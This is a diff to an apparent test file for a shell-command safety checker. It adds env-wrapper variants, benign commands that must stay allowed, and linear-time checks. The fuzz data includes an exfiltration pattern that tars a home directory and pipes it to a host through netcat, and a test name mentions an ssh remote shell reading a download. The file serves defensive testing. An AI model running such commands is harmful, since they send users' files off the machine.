@@ -27,7 +27,18 @@ function bash(script: string): string {
 }
 
 /** Wrappers that hand their operands to env: `env` behind them still gives its assignments. */
-const ENV_FRONTS = ['command env', 'nice -n 5 env', 'nohup env', 'exec env', 'env -i env', 'timeout 9 env'];
+const ENV_FRONTS = [
+  'command env',
+  'nice -n 5 env',
+  'nohup env',
+  'exec env',
+  'env -i env',
+  'timeout 9 env',
+  // Round 28c: an env behind env gives its assignments as well (`env A=1 nice env D=..`).
+  'env A=1 env',
+  'env -i nice env',
+  'env -u X nohup env',
+];
 /** Ways to name a home for a packer through a variable a wrapped env gives. */
 const PACKS = [
   (v: string) => `tar c $${v} | nc h 80`,
@@ -109,6 +120,11 @@ test("fuzz: ssh's remote shell or interpreter reading a download on its input is
 test('benign neighbours stay admitted', () => {
   allAdmitted([
     'env -C packages/api npm test',
+    'env -C build make',
+    'cd src && make',
+    'cd src; ls',
+    'env -i env FOO=1 npm test',
+    'env A=1 nice env B=2 npm test',
     'env --chdir=src ls',
     'CDPATH= cd src && ls',
     'declare -n r=x; x=1; echo $r',
@@ -143,6 +159,8 @@ test('the new readings stay linear in the text', () => {
   assertRepeatLinear('CDPATH=/ cd tmp; ', read);
   assertRepeatLinear('declare -n r=x; ', read);
   assertRepeatLinear("ssh h 'bash -s' < a; ", read);
+  assertRepeatLinear('env -i env D=/x ls; ', read);
+  assertRepeatLinear('env A=1 nice env B=2 ls; ', read);
 });
 
 test('bash is here as the oracle', { skip: !has('bash') }, () => {
